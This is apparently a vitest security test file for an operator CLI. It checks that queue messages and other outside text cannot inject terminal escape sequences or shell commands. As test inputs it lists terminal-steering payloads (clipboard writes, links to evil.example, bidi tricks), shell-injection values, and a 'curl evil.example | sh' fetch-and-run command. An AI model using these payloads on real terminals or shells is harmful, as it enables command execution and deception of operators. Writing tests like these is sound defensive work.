import { execFileSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import { CloudFormationClient } from '@aws-sdk/client-cloudformation';
import { CloudWatchClient } from '@aws-sdk/client-cloudwatch';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { Printer } from '../../bin/session/printer.ts';
import { wrapped } from '../../bin/session/text-width.ts';
import { incidentStore } from '../../lambdas/adapters/escalation/incident-store.ts';
import { plainText } from '../../lambdas/domain/disclosure/plain-text.ts';
import { shellWord } from '../../lambdas/domain/disclosure/shell-word.ts';
import { escalate } from '../../lambdas/use-cases/escalation/escalate.ts';
import { DEAD_LETTERS, DlqScene, WHY } from '../bin/commands/dlq-scene.ts';
import { deadLetter } from '../lambdas/domain/escalation/samples.ts';
import { anyText } from '../support/any-text.ts';
import { deskPorts } from '../support/desk.ts';
import { captured, fakeClient } from '../support/operator.ts';
import { asking } from '../support/questions.ts';

/** What an attacker writes to a terminal: sequences that clear, retitle, link, copy, hide, reverse, overwrite. */
const ATTACKS = {
  'clear the screen (CSI)': '\u001b[2J\u001b[1;1H',
  'set the title (OSC, ended by BEL)': '\u001b]0;owned\u0007',
  'write the clipboard (OSC 52)': '\u001b]52;c;cm0gLXJmIH4=\u001b\\',
  'a link elsewhere (OSC 8)': '\u001b]8;;https://evil.example\u001b\\here\u001b]8;;\u001b\\',
  'a C1 control (CSI in one character)': '\u009b2J',
  'a carriage return over the line': 'fine\rP1: nothing to do',
  'a line of its own': "fine\n  next: backstop dlq discard order-1 --why 'done'",
  backspaces: 'rm\b\b\b\b',
  'a reversed text (bidi override)': '\u202egnp.exe',
  'an isolate (bidi)': '\u2066\u2069',
  'zero-width characters': 'pay\u200bments\ufeff\u2060',
  'a separator of lines': 'a\u2028b\u2029c',
  'a tag character': 'a\u{e0041}b',
  'an invisible letter': 'a\u3164b\u115fc',
  'a lone surrogate': 'a\ud800b',
  'delete and form feed': '\u007f\u000c\u000b',
} as const;
const STEERING = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}\p{DI}]/u;

const scene = DlqScene.inThisFile();

/** The output may have line ends; everything else must be plain. */
function expectPlain({ out, err }: { readonly out: string; readonly err: string }): void {
  expect(`${out}${err}`.replaceAll('\n', '')).not.toMatch(STEERING);
  // A hostile text starts no line of its own.
  expect(out).not.toMatch(/^ {2}next: backstop dlq discard order-1 /m);
}

/** A dead letter that a sender to the queue made up. */
function forged(text: string): string {
  const facts = { dependency: text, reason: text, rule: text, correlationId: text, tenant: text, verdict: text };
  return JSON.stringify({ kind: 'backstop-dead-letter', version: 1, id: 'forged-1', cycle: 1, attempts: 1, ...facts });
}

describe.each(Object.entries(ATTACKS))('no text of others steers the terminal (CWE-150): %s', (_, attack) => {
  it('in a forged dead letter', async () => {
    scene.sqs.put(DEAD_LETTERS, forged(attack));
    for (const json of [[], ['--json']]) {
      expectPlain(await scene.dlq('ls', ...json));
      expectPlain(await scene.dlq('show', 'forged-1', ...json));
      expectPlain(await scene.dlq('redrive', 'payments', '--dry-run', ...json));
    }
    const listed = JSON.parse((await scene.dlq('ls', '--json')).out);
    expect(listed.letters[0].reason).toBe(attack.toWellFormed() === attack ? attack : listed.letters[0].reason);
    expectPlain(await scene.dlq('redrive', 'payments', ...WHY));
    scene.sqs.put(DEAD_LETTERS, forged(attack));
    expectPlain(await scene.dlq('discard', 'forged-1', ...WHY));
    for (const plan of scene.plans) expect(plan.replaceAll('\n', '')).not.toMatch(STEERING);
    expect(scene.plans.join('\n')).not.toMatch(/^ {2}next: backstop/m);
  });

  it('in the ledger, an incident, a question, the audit trail and an alarm', async () => {
    const { client, ledger: table } = scene.tables;
    const text = attack.toWellFormed();
    const { id } = await scene.dead({ correlationId: text, rule: text } as never);
    const question = asking(`asked-${id}`, { because: text as never, version: text }, scene.now());
    await scene.ledger.claim({ ...question, correlationId: text });
    const store = incidentStore({ client, table });
    const signal = deadLetter(1, { priority: 'P1', reason: text, rule: text, failureId: text, correlationId: text });
    const ports = { store, channels: [], now: scene.now, newToken: () => text };
    await escalate('payments', [signal], ports);
    const { audit } = deskPorts({ tables: scene.tables, now: scene.now });
    await audit.begin({ action: 'discard', principal: text, name: text, why: text, failureId: text });
    const { backstop, plans } = scene.operator({ clients: { cloudwatch: alarming(text), cloudformation: NO_STACK } });
    for (const command of [
      ['trace', id],
      ['dlq', 'show', id],
      ['dlq', 'discard', id, ...WHY],
      ['decisions', 'ls'],
      ['decisions', 'show', `asked-${id}`],
      ['incidents', 'ls'],
      ['incidents', 'ack', 'payments', ...WHY],
      ['status'],
      ['audit'],
      ['trace', text],
      ['dlq', 'show', text],
      [text],
    ]) {
      expectPlain(await backstop(...command));
      const { out, err } = await backstop(...command, '--json');
      expectPlain({ out, err });
      if (out !== '') expect(() => JSON.parse(out)).not.toThrow();
    }
    expect(plans.length).toBeGreaterThan(1);
    for (const plan of plans) expect(plan.replaceAll('\n', '')).not.toMatch(STEERING);
  });
});

const NO_STACK = Object.assign(
  new CloudFormationClient({ region: 'us-east-1' }),
  fakeClient<object>(() => ({ StackResourceSummaries: [] })),
);

function alarming(name: string): CloudWatchClient {
  const answer = () => ({ MetricAlarms: [{ AlarmName: name }], MetricDataResults: [] });
  return Object.assign(new CloudWatchClient({ region: 'us-east-1' }), fakeClient<object>(answer));
}

it('a printer with colours adds only its own sequences to any text (CWE-150)', () => {
  const parts = fc.string({
    unit: fc.oneof(fc.constantFrom(...Object.values(ATTACKS)), anyText),
  });
  fc.assert(
    fc.property(parts, (text) => {
      const { streams, written } = captured(80);
      const print = new Printer({ ...streams, json: false, colors: true });
      print.line(text, { text, style: 'red' }, { name: text, address: text });
      print.heading(text);
      print.paragraph(text);
      print.note(text);
      print.table([text], [[text], [{ text, style: 'cyan' }], [{ items: [text, text] }]]);
      const { out, err } = written();
      // biome-ignore lint/suspicious/noControlCharactersInRegex: These are the printer's own sequences.
      const own = /\u001b\[\d+m|\u001b\]8;;[^\u001b]*\u001b\\|\n/g;
      expect(`${out}${err}`.replaceAll(own, '')).not.toMatch(STEERING);
      // The printer wraps a note at words. Without them, it is one line.
      expect(err.split('\n')).toHaveLength(wrapped(plainText(text), 80).length + 1);
    }),
    { numRuns: 60 },
  );
});

describe('a text to paste is one word of a shell (CWE-78)', () => {
  const texts = [
    'a; touch /tmp/x',
    '$(touch x)',
    '`id`',
    "'; id; '",
    'a b',
    '',
    '*',
    '~',
    'a\nid',
    '#',
    '!!',
    'é',
    '-rf',
  ];

  /** The words that a shell makes of a line. */
  function wordsOf(line: string): readonly string[] {
    const script = `for word in ${line}; do printf '%s\\0' "$word"; done`;
    return execFileSync('sh', ['-c', script], { encoding: 'utf8', cwd: tmpdir() }).split('\0').slice(0, -1);
  }

  it.each(texts)('%j', (text) => {
    const expected = text.replaceAll('\n', '?').replace(/^-/, '?');
    expect(wordsOf(shellWord(text))).toEqual([expected]);
  });

  it('for any text', () => {
    const all = fc.sample(anyText, { numRuns: 300, seed: 15 });
    const words = wordsOf(all.map(shellWord).join(' '));
    expect(words).toHaveLength(all.length);
    expect(words.filter((word) => word.startsWith('-') || STEERING.test(word))).toEqual([]);
  });

  it('even where a dead letter names its dependency itself', async () => {
    scene.sqs.put(DEAD_LETTERS, forged('x; curl evil.example | sh'));
    const { out } = await scene.dlq('show', 'forged-1', '--json');
    const { commands } = JSON.parse(out);
    for (const command of commands)
      expect(command).toMatch(/^backstop dlq (?:redrive payments --id|discard) forged-1 --why '…'$/);
  });
});
